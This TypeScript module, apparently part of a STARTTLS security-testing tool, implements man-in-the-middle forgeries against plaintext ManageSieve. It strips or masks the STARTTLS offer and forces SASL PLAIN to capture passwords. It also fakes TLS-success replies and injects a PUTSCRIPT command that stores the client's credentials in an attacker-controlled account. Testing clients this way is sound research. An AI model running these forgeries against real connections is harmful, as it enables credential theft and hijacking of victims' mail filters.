/** The lies that plaintext ManageSieve makes possible about STARTTLS (RFC 5804 section 5). */
import { concat, fromText, toText } from '../../bytes/hex';
import type { Account, Forgery } from '../dialect';
import { plainInBase64 } from '../sasl';

import { capabilitiesOf, parseResponse, writeResponse } from './response';

const offer = /^"STARTTLS"\r\n/gim;

export const forgery: Forgery = {
  // With no mechanism in the list, a client would keep its password to itself.
  withoutOffer: (message) =>
    offers(message)
      ? fromText(
          toText(message)
            .replace(offer, '')
            .replace(/^("SASL" )""(?=\r\n)/gim, '$1"PLAIN"'),
        )
      : message,
  maskedOffer: (message) =>
    offers(message) ? fromText(toText(message).replace(offer, '"XXXXXXXA"\r\n')) : message,
  refusal: (_, permanence) =>
    permanence === 'temporary'
      ? writeResponse([], 'NO (TRYLATER)', 'TLS is not available due to a local problem.')
      : writeResponse([], 'NO', "TLS support isn't enabled."),
  lies: {
    // The attacker's login answers the client's, which becomes a filter of the attacker's; so does the client's own filter.
    commands: (request, { account, task }) => {
      const inBase64 = 4 * Math.ceil((task.userName.length + task.passwordLength + 2) / 3);
      const swallowed = 'AUTHENTICATE "PLAIN" ""'.length + inBase64;
      return concat(request, login(account), fromText(`PUTSCRIPT "caught" {${swallowed}+}\r\n`));
    },
    responses: (goAhead) =>
      concat(
        goAhead,
        writeResponse(['"SIEVE" "fileinto"', '"SASL" "PLAIN"'], 'OK', 'TLS negotiation successful.'),
        writeResponse([], 'OK', 'Logged in.'),
        writeResponse([], 'OK', 'Listscripts completed.'),
        writeResponse([], 'OK', 'Putscript completed.'),
      ),
    session: (request, { account }) => concat(login(account), request),
    logins: (list) =>
      offers(list)
        ? fromText(
            toText(list)
              .replace(offer, '')
              .replace(/^("SASL" )"[^"]*"(?=\r\n)/gim, '$1"PLAIN"'),
          )
        : list,
    'no-answer': () => fromText('MAYBE "Later."\r\n'),
  },
};

const login = (account: Account): Uint8Array =>
  fromText(`AUTHENTICATE "PLAIN" "${plainInBase64(account)}"\r\n`);

function offers(message: Uint8Array): boolean {
  const response = parseResponse(message);
  return response !== null && capabilitiesOf(response).some(({ name }) => name === 'STARTTLS');
}
